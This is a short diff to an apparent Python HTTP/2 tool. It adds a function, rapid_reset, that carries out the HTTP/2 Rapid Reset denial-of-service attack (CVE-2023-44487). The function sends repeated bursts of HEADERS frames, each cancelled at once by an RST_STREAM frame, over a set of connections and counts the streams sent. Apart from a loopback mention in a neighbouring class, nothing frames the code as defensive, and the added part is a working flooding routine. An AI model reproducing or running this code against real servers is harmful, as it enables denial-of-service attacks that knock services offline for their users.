@@ -71,6 +71,21 @@ def message(data: bytes) -> bytes:
     return message_start(len(data)) + data
 
 
+def rapid_reset(hostile, path: str = INFER) -> int:
+    """Calls taken back as soon as they begin (CVE-2023-44487), on connections; how many."""
+    block, cancel = headers(path), (8).to_bytes(4)
+    sent = 0
+    for one in hostile:
+        for first in range(0, 5000, 50):
+            streams = range(2 * first + 1, 2 * first + 101, 2)
+            burst = b"".join(
+                frame(HEADERS, END_HEADERS, n, block) + frame(RST_STREAM, 0, n, cancel)
+                for n in streams
+            )
+            sent += 50 * one.flood(burst, 1)
+    return sent
+
+
 class Connection:
     """One raw connection; `source` is the loopback address that it comes from."""
 
